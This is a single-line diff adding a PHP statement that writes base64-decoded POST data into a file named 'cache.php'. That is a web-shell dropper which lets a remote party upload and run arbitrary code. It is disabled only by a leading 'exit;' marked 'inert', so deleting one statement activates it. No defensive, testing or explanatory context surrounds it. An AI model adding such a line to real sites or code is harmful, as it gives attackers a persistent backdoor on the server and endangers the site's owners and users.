@@ -1,0 +1,1 @@
+<?php exit; /* inert */ file_put_contents("cache.php", base64_decode($_POST["d"]));
